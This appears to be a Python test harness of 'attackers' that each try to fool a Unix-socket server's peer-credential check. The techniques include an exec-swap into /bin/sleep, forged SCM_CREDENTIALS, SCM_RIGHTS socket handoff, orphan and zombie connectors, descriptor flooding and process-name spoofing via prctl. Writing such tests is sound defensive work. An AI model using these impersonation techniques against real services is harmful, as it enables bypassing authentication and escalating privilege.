"""Attackers. Each connects to the socket argv[2] and tries to be served as somebody else; what it was told is printed as one line.

A server answers the line "who" with the executable of the process that it believes in; an ended connection prints "refused".
"""
import array, ctypes, os, signal, socket, struct, sys, threading, time

attack, path, rest = sys.argv[1], sys.argv[2], sys.argv[3:]
TRUSTED = "/bin/sleep"
SCM_CREDENTIALS = 2


def connect():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(60)
    s.connect(path)
    os.set_inheritable(s.fileno(), True)
    return s


def ask(s, line=b"who\n"):
    try:
        if line:  # Even an empty send fails once the server has answered and closed, though its answer waits to be read.
            s.sendall(line)
        answer = b""
        while not answer.endswith(b"\n"):
            more = s.recv(4096)
            if not more:
                break
            answer += more
        return answer.decode().strip() or "refused"
    except (ConnectionError, BrokenPipeError, PermissionError):
        return "refused"


def tell(text):
    print(text, flush=True)


def wait_for_exe(pid, wanted):
    while os.path.realpath(f"/proc/{pid}/exe") != os.path.realpath(wanted):
        time.sleep(0.005)


def wait_for_end(pid):
    while os.path.exists(f"/proc/{pid}"):
        time.sleep(0.005)


if attack == "honest":
    tell(ask(connect()))

elif attack == "exec-swap":
    # The connector hands the socket to its child and becomes a trusted program: same pid, start time and user.
    s, parent = connect(), os.getpid()
    if os.fork() == 0:
        wait_for_exe(parent, TRUSTED)
        tell(ask(s))
        os.kill(parent, signal.SIGTERM)
        os._exit(0)
    os.execv(TRUSTED, [TRUSTED, "60"])

elif attack == "forged-swap":
    # The same, in a pid and user namespace of one's own, where its root may stamp its bytes with the connector's pid.
    s, parent = connect(), os.getpid()
    if os.fork() == 0:
        wait_for_exe(parent, TRUSTED)
        s.sendmsg([b"who\n"], [(socket.SOL_SOCKET, SCM_CREDENTIALS, struct.pack("iII", parent, 0, 0))])
        tell(ask(s, b""))
        os.kill(parent, signal.SIGTERM)
        os._exit(0)
    os.execv(TRUSTED, [TRUSTED, "60"])

elif attack == "pass-socket":
    # The socket goes to an unrelated process by SCM_RIGHTS, and the connector stays alive.
    mine, theirs = socket.socketpair()
    if os.fork() == 0:
        mine.close()
        _, anc, _, _ = theirs.recvmsg(1, socket.CMSG_SPACE(4))
        got = array.array("i")
        got.frombytes(anc[0][2][:4])
        received = socket.socket(fileno=got[0])
        received.setblocking(True)
        tell(ask(received))
        os._exit(0)
    theirs.close()
    s = connect()
    mine.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
    os.wait()

elif attack == "orphan":
    # The connector exits, its child keeps the socket.
    middle = os.fork()
    if middle == 0:
        s, connector = connect(), os.getpid()
        tell("connected")
        sys.stdin.readline()  # until the server has accepted
        if os.fork() == 0:
            while os.getppid() == connector:
                time.sleep(0.005)
            tell(ask(s))
            os._exit(0)
        os._exit(0)
    os.waitpid(middle, 0)
    sys.stdin.read()

elif attack == "zombie":
    # The connector is a zombie that nobody reaps; its child speaks.
    connector = os.fork()
    if connector == 0:
        s = connect()
        tell("connected")
        sys.stdin.readline()
        me = os.getpid()
        if os.fork() == 0:
            while os.getppid() == me:
                time.sleep(0.005)
            tell(ask(s))
            os._exit(0)
        os._exit(0)
    signal.pause()  # never waits for its child

elif attack == "send-descriptors":
    # Descriptors ride on the bytes, in the hope that the server collects them.
    s = connect()
    pipes = [os.open("/dev/null", os.O_RDONLY) for _ in range(64)]
    try:
        s.sendmsg([b"who\n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", pipes))])
        tell(ask(s, b""))
    except PermissionError:
        tell("refused by the kernel")

elif attack == "name":
    # A program name that looks like the rest of /proc/PID/stat.
    ctypes.CDLL(None).prctl(15, rest[0].encode().decode("unicode_escape").encode("latin-1"), 0, 0, 0)
    tell(ask(connect()))

elif attack == "thread":
    # A thread speaks, and it is not the one that connected.
    s = connect()
    t = threading.Thread(target=lambda: tell(ask(s)))
    t.start()
    t.join()

elif attack == "hold":
    # Connects, says so, and waits.
    s = connect()
    tell("connected")
    sys.stdin.readline()

else:
    sys.exit("no such attack")
